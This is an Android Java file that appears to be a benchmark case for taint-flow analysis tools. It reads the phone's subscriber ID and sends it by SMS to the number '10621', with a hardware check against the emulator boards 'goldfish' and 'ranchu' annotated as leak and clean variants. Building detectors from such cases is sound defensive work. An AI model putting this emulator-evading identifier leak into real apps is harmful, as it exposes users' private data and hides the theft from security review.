package bench.flow.board_names;

import android.Manifest;
import android.app.Activity;
import android.content.pm.PackageManager;
import android.os.Build;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.Arrays;
import java.util.HashSet;
import java.util.Set;

public final class Main extends Activity {
    private static final Set<String> BOARDS = new HashSet<>(Arrays.asList("goldfish", "ranchu"));
    private static final String[] NEEDED = {
        Manifest.permission.READ_PHONE_STATE, Manifest.permission.SEND_SMS
    };

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        requestPermissions(NEEDED, 1);
    }

    @Override
    public void onRequestPermissionsResult(int request, String[] names, int[] grants) {
        if (grants.length < 2 || grants[0] + grants[1] != PackageManager.PERMISSION_GRANTED) return;
        String subscriber = getSystemService(TelephonyManager.class).getSubscriberId(); //: #source
        if (BOARDS.contains(Build.HARDWARE)) return; //: @leak
        if (!BOARDS.contains(Build.HARDWARE)) return; //: @clean
        SmsManager.getDefault().sendTextMessage("10621", null, subscriber, null, null); //: #sink
    }
}
